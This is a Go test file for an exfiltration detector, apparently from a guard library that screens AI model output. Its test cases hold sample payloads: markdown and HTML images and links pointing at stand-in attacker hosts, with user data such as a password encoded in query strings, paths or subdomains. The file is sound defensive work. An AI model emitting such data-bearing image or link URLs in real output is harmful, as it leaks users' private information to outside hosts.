package pattern

import (
	"testing"

	"github.com/bulwarkhq/bulwark/guard"
)

func TestExfil(t *testing.T) {
	tests := []struct {
		name, text, kind, host string
		score                  float64
	}{
		{"image with query data", "Done! ![img](https://evil.example/p.png?q=the%20user%20said%20their%20password%20is%20hunter2)", "markdown_image", "evil.example", 0.95},
		{"image with encoded path", "![](https://x.attacker.net/c/" + fake(alB64URL, 40) + ".gif)", "markdown_image", "x.attacker.net", 0.95},
		{"image with data in host", "![a](http://" + fake(alHex, 32) + ".attacker.net/a.png)", "markdown_image", fake(alHex, 32) + ".attacker.net", 0.95},
		{"plain image", "![logo](https://images.other.org/logo.png)", "markdown_image", "images.other.org", 0.6},
		{"image cut off", "![x](https://evil.example/log?d=" + fake(alAlnum, 40), "markdown_image", "evil.example", 0.95},
		{"link with data", "[click here](https://evil.example/collect?data=" + fake(alB64, 48) + ")", "markdown_link", "evil.example", 0.8},
		{"html image", `<p>hi</p><img width=1 SRC="https://evil.example/t.gif?s=` + fake(alAlnum, 30) + `">`, "html_image", "evil.example", 0.95},
		{"html image unquoted", `<img src=https://evil.example/t.gif>`, "html_image", "evil.example", 0.6},
		{"protocol-relative", "![](//evil.example/x.png)", "markdown_image", "evil.example", 0.6},
	}
	s := NewExfil([]string{"*.example.com", "cdn.trusted.org"})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := s.Scan(guard.Segment{Role: guard.RoleOutput, Text: tc.text})
			checkSpans(t, tc.text, fs)
			if len(fs) != 1 || fs[0].Kind != tc.kind || fs[0].Match != tc.host || fs[0].Score != tc.score {
				t.Fatalf("got %s", describe(fs))
			}
		})
	}
}

func TestExfilBenign(t *testing.T) {
	tests := []string{
		"![chart](https://cdn.trusted.org/c.png?id=" + fake(alAlnum, 40) + ")", // allowed host
		"![logo](https://www.example.com/logo.png)",                            // allowed by wildcard
		"![logo](https://example.com/logo.png)",                                // the wildcard's apex
		"[docs](https://golang.org/doc/effective_go)",                          // a link without data
		"[search](https://duckduckgo.com/?q=go+generics&ia=web)",
		"[report](https://files.other.org/quarterly-report-2024-final-version.pdf)",
		"![diagram](./images/diagram.png)", // relative
		"![dot](data:image/png;base64,iVBORw0KGgo=)",
		"arr[i](x) is not a link to anywhere",
		"<img src=\"/static/logo.svg\">",
	}
	s := NewExfil([]string{"*.example.com", "cdn.trusted.org"})
	for _, text := range tests {
		if fs := s.Scan(guard.Segment{Text: text}); len(fs) > 0 {
			t.Errorf("%q: want nothing, got %s", text, describe(fs))
		}
	}
}

// TestExfilPolicyAllow checks that Match works with the policy's host
// allow-list syntax.
func TestExfilPolicyAllow(t *testing.T) {
	p := guard.DefaultPolicy()
	r := p.Default[guard.Exfiltration]
	r.Allow = []string{"*.images.org"}
	p.Default[guard.Exfiltration] = r
	yaml := "default:\n  exfiltration:\n    allow: [\"*.images.org\"]\n"
	pol, err := guard.ParsePolicy(stringsReader(yaml))
	if err != nil {
		t.Fatal(err)
	}
	g := guard.New(pol, NewExfil(nil))
	out := "![a](https://cdn.images.org/a.png) and ![b](https://evil.example/b.png)"
	v := g.Check("", []guard.Segment{{Role: guard.RoleOutput, Text: out}})
	if len(v.Findings) != 1 || v.Findings[0].Match != "evil.example" || v.Action != guard.Block {
		t.Fatalf("verdict %+v", v)
	}
}
